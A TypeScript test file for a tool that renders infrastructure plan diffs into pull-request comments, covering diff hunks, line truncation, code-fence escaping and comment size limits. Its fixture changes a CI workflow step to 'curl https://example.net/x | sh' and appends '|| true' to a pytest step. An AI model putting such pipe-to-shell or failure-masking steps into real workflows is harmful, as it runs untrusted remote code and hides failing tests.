import { describe, expect, test } from "vitest";
import { mergeComment, sectionOf } from "../../operations/comment/merge.ts";
import { renderSection } from "../../operations/comment/section.ts";
import type { PlannedStep } from "../../operations/plan.ts";
import { stepLines } from "../../operations/plan/lines.ts";
import { textDiff } from "../../operations/plan/texts.ts";
import { change, planned } from "./planned.ts";

const token = "github:index/repositoryFile:RepositoryFile";
const numbered = (count: number, word = "line"): string => Array.from({ length: count }, (_, at) => `${word} ${at}\n`).join("");
const file = (from: string, to: string, name = ".github/workflows/ci.yml"): PlannedStep =>
  planned({
    op: "update",
    type: "RepositoryFile",
    token,
    name,
    component: "application",
    before: { content: from },
    after: { content: to },
    changes: [change("content", from, to)],
  });
const made = (content: string): PlannedStep =>
  planned({ op: "create", type: "RepositoryFile", token, name: "new.yml", after: { file: "new.yml", content, branch: "main" } });
const fold = (...steps: PlannedStep[]): string => renderSection({ stack: "delivery", steps, dangers: [] });

const before =
  "steps:\n  - name: Install\n    run: pip install pre-commit\n  - name: Check\n    run: pre-commit\n  - name: Test\n    run: uv run pytest\n";
const after = before.replace("pip install pre-commit", "curl https://example.net/x | sh").replace("pytest", "pytest || true");

describe("a text of several lines", () => {
  test("shows every place where it differs, in the colours of a diff", () => {
    expect(fold(file(before, after))).toContain(
      [
        "! update RepositoryFile .github/workflows/ci.yml",
        "    content:",
        "    @@ -2,3 +2,3 @@",
        "       - name: Install",
        "-        run: pip install pre-commit",
        "+        run: curl https://example.net/x | sh",
        "       - name: Check",
        "    @@ -6,2 +6,2 @@",
        "       - name: Test",
        "-        run: uv run pytest",
        "+        run: uv run pytest || true",
        "```",
      ].join("\n"),
    );
    expect(stepLines([file(before, after)])).toContain("+        run: uv run pytest || true");
  });

  test("that is made shows its lines, below what has one line", () => {
    expect(fold(made("on:\n  push:\n"))).toContain(
      [
        "+ create RepositoryFile new.yml",
        '    file: "new.yml"',
        '    branch: "main"',
        "    content:",
        "+    on:",
        "+      push:",
        "```",
      ].join("\n"),
    );
  });

  test("is told in 40 lines, and how many are left", () => {
    const text = fold(file(numbered(30), numbered(30, "other")));
    expect(text.match(/^[+-] {4}\w/gm)).toHaveLength(40);
    expect(text.match(/^[+] {4}\w/gm)).toHaveLength(20);
    expect(text).toContain("    … and 20 more lines that go or come\n```");
    expect(textDiff("", numbered(41), 40).at(-1)).toBe("… and 1 more line that goes or comes");
    expect(fold(file(numbered(20), numbered(20, "other")))).not.toContain("… and");
  });

  test("cannot end the block that it stands in", () => {
    const text = fold(file("a\nb\n", "a\n```\n</details>\n"));
    expect(text).toContain("````diff\n");
    expect(text.trimEnd()).toMatch(/````\n\n<\/details>\n<!-- groundwork:unfold -->$/);
  });

  test("is told by its name alone where there is no room for values, and by few lines before that", () => {
    const steps = Array.from({ length: 100 }, (_, at) => file(numbered(30, `former ${at}`), numbered(30, `later ${at}`), `file-${at}.yml`));
    const few = sectionOf({ stack: "delivery", steps, dangers: [] }).body;
    expect(few).toContain("(most lines of texts are left out");
    expect(few).toContain("… and 55 more lines that go or come");
    expect(few).toContain("file-99.yml");
    const many = Array.from({ length: 400 }, (_, at) => file(numbered(30, `former ${at}`), numbered(30, `later ${at}`), `file-${at}.yml`));
    const section = sectionOf({ stack: "delivery", steps: many, dangers: [] });
    expect(section.body).toContain("(values are left out");
    expect(section.body).toContain("! update RepositoryFile file-399.yml");
    expect(mergeComment("template", undefined, [section]).length).toBeLessThan(65_536);
  });
});
